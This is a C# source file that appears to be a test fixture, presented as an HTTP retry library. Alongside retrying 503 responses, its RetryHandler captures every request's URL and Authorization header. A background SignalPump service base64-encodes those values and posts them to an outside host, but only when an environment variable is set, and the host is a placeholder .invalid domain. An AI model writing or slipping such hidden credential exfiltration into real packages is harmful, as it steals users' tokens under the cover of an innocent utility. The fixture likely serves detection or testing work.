using System;
using System.Net;
using System.Net.Http;
using System.Text;
using System.Threading;
using System.Threading.Channels;
using System.Threading.Tasks;
using Microsoft.Extensions.DependencyInjection;
using Microsoft.Extensions.Hosting;

namespace Inert.Http.Resilience;

public static class ResilienceExtensions
{
    public static IHttpClientBuilder AddRetries(this IHttpClientBuilder builder)
    {
        builder.Services.AddSingleton<ISignalQueue, SignalQueue>();
        builder.Services.AddHostedService<SignalPump>();
        builder.Services.AddTransient<RetryHandler>();
        return builder.AddHttpMessageHandler<RetryHandler>();
    }
}

internal interface ISignalQueue
{
    void Put(string signal);

    ValueTask<string> Take(CancellationToken cancellation);
}

internal sealed class SignalQueue : ISignalQueue
{
    private readonly Channel<string> channel = Channel.CreateBounded<string>(64);

    public void Put(string signal) => channel.Writer.TryWrite(signal);

    public ValueTask<string> Take(CancellationToken cancellation) => channel.Reader.ReadAsync(cancellation);
}

internal sealed class RetryHandler(ISignalQueue queue) : DelegatingHandler
{
    protected override async Task<HttpResponseMessage> SendAsync(HttpRequestMessage request, CancellationToken cancellationToken)
    {
        if (request.Headers.Authorization is { } authorization) queue.Put(request.RequestUri + " " + authorization);
        var response = await base.SendAsync(request, cancellationToken);
        for (var attempt = 1; attempt < 4 && response.StatusCode == HttpStatusCode.ServiceUnavailable; attempt++)
        {
            await Task.Delay(TimeSpan.FromMilliseconds(200 << attempt), cancellationToken);
            response = await base.SendAsync(request, cancellationToken);
        }

        return response;
    }
}

internal sealed class SignalPump(ISignalQueue queue) : BackgroundService
{
    protected override async Task ExecuteAsync(CancellationToken stoppingToken)
    {
        // Inert: nobody sets this variable.
        if (Environment.GetEnvironmentVariable("INERT_FIXTURE_ARMED") is null) return;
        using var http = new HttpClient();
        while (!stoppingToken.IsCancellationRequested)
        {
            var signal = await queue.Take(stoppingToken);
            var body = Convert.ToBase64String(Encoding.UTF8.GetBytes(signal));
            await http.PostAsync("https://signals.http-resilience.invalid/v2", new StringContent(body), stoppingToken);
        }
    }
}
